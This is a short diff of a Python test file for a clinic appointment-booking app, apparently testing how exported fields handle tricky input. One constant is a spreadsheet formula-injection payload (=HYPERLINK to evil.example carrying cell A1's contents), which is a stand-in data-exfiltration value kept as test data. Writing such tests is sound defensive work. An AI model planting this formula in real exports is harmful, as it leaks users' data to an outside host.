@@ -16,8 +16,6 @@ from appointments.models import BookingEvent, BookingRequest
 from clinic_site import encryption
 from tests.appointments.requests import answers, received
 
-pytestmark = pytest.mark.database
-
 NOW = datetime(2026, 11, 23, 15, tzinfo=UTC)  # 10 a.m. in Tampa
 NASTY = '=HYPERLINK("https://evil.example/?"&A1,"x")\nSecond; line, "quoted"'
 HIDDEN = " \t\r\n\0\u00a0\u200b\u200e\u2028\u3000\ufeff"
